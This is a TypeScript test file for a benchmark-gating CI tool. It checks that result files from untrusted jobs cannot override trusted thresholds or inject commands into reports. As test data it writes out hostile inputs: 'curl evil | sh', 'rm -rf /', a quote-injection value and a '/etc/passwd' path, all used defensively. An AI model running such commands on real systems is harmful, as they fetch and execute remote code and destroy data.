// What a publishing job makes of the files of others.
import { describe, expect, test } from 'vitest'
import {
  judgeOtherJobsResults,
  listMeasuredSettingsDifferingFromTrusted,
  type ResultJudgingContextOfPublishingJob,
  trustedSettingsOfPublishingJob,
} from '../../../src/core/merge/judge-elsewhere.ts'
import type { RunSettings } from '../../../src/core/model/settings.ts'
import { renderFullestReportWithinLimit } from '../../../src/core/report/say/fit-limit.ts'
import { markdownOfRunReport } from '../../../src/core/report/show/markdown.ts'
import { readInputsWithSeed } from '../../../src/effects/inputs/inputs.ts'
import { commits, goSettings, resultFrom, settings, time } from '../report/runs.ts'
import { named, part } from './parts.ts'

describe('judge elsewhere', () => {
  const known: ResultJudgingContextOfPublishingJob = {
    inputs: readInputsWithSeed(name => (name === 'run' ? 'make bench' : '')),
    file: { file: '.github/benchgate.yml', changes: [] },
    rules: '3'.repeat(40),
    head: commits.head.sha,
    isStrangers: true,
  }
  const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })

  test("regressions are judged by our threshold, not by the file's verdict", () => {
    const file = {
      ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
      verdict: 'pass' as const,
      reason: 'fine',
    }
    const result = judgeOtherJobsResults([named(file)], known)
    expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed' })
    expect(result.elsewhere).toEqual({
      rules: known.rules,
      changes: [
        { rule: 'alpha', base: '0.05', head: '1e-9' },
        { rule: 'threshold', base: '0.05', head: '1' },
      ],
    })
    expect(result.commits.head.from).toBe('reported by GitHub')
  })

  test('no path of a file is kept', () => {
    const [profile] = [{ files: { base: '../../x', head: '/etc/passwd' } }]
    const file = { ...slower(), profiles: [{ ...profile, functions: [] }] as never }
    expect(judgeOtherJobsResults([named(file)], known).profiles.map(({ files }) => files)).toEqual([null])
  })

  test('what one machine has measured otherwise is told once', () => {
    const ours = [time('A', 1)]
    const parts = [part(ours, ours, [1, 2]), part([time('B', 1)], [time('B', 1)], [2, 2])]
    const result = judgeOtherJobsResults(parts, known)
    expect(result.elsewhere?.changes).toEqual([
      { rule: 'confirm', base: 'true', head: 'false' },
      { rule: 'run', base: 'make bench', head: 'go test -run=NONE -bench=. ./...' },
    ])
  })

  test('if no file can be read, the error says why', () => {
    const broken = { name: 'a/result.json', problem: 'It is a link.' }
    expect(() => judgeOtherJobsResults([broken], known)).toThrow('a/result.json": It is a link.')
  })

  test('the report looks like this, and has no command of theirs', async () => {
    const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
    const files = [named(file)]
    const withRun = markdown(judgeOtherJobsResults(files, known))
    await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
    const inputs = readInputsWithSeed(() => '')
    const without = markdown(judgeOtherJobsResults(files, { ...known, inputs }))
    for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
    expect(without).not.toContain('To repeat')
  })

  const markdown = (result: ReturnType<typeof judgeOtherJobsResults>) =>
    renderFullestReportWithinLimit(result, 65_000, markdownOfRunReport)
  const shells = (report: string) =>
    [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
})

// By whose settings is judged, and which differences are told.
describe('trusted settings', () => {
  const inputs = (given: Readonly<Record<string, string>>) => readInputsWithSeed(name => given[name] ?? '')

  test('the settings in a file have no effect', () => {
    const theirs: RunSettings = {
      ...settings,
      threshold: 1,
      alpha: 0.5,
      failOn: 'never',
      run: 'curl evil | sh',
    }
    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', threshold: '3%' }), theirs)
    expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
  })

  test('the command is ours, that of the Go driver by our inputs, or not known', () => {
    const run = (given: Readonly<Record<string, string>>, theirs: RunSettings) =>
      trustedSettingsOfPublishingJob(inputs(given), theirs).run
    expect(run({}, settings)).toBe('')
    expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
      "-bench 'Encode'".replaceAll("'", ''),
    )
    expect(run({ run: 'make' }, { ...settings, go: goSettings })).toBe('make')
  })

  test('a calibration is judged as a gate', () => {
    const ours = trustedSettingsOfPublishingJob(inputs({ calibrate: 'true' }), settings)
    expect(ours.calibrate).toBe(false)
  })

  const told = (given: Readonly<Record<string, string>>, theirs: Partial<RunSettings>) => {
    const measured = { ...settings, run: 'make bench', ...theirs }
    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', ...given }), measured)
    return listMeasuredSettingsDifferingFromTrusted(ours, measured).map(
      ({ rule, base, head }) => `${rule}: ${head} for ${base}`,
    )
  }

  test.each<[Partial<RunSettings>, readonly string[]]>([
    [{}, []],
    [{ seed: 9, failOn: 'never', sort: 'delta', perflock: 'off', timeout: 1, shard: [1, 2] }, []],
    [{ count: 5, ruleOut: 0.2 }, ['count: 5 for 20', 'rule-out: 0.2 for 0.1']],
    [{ overlay: ['a', 'b'] }, ['overlay: a, b for null']],
    [{ run: 'echo' }, ['run: echo for make bench']],
    [{ replica: [1, 2], stopEarly: false }, []],
    [{ stopEarly: false }, ['stop-early: false for true']],
  ])('measured with %j', (theirs, expected) => {
    expect(told({}, theirs).toSorted()).toEqual(expected)
  })

  test('of Go benchmarks it is told which input differs', () => {
    const theirs = {
      ...settings,
      run: 'x',
      go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
    }
    const ours = trustedSettingsOfPublishingJob(inputs({ 'working-directory': './sub/' }), theirs)
    expect(listMeasuredSettingsDifferingFromTrusted(ours, theirs)).toEqual([
      { rule: 'working-directory', base: 'sub', head: '.' },
      { rule: 'bench', base: '.', head: 'Fast' },
    ])
  })
})
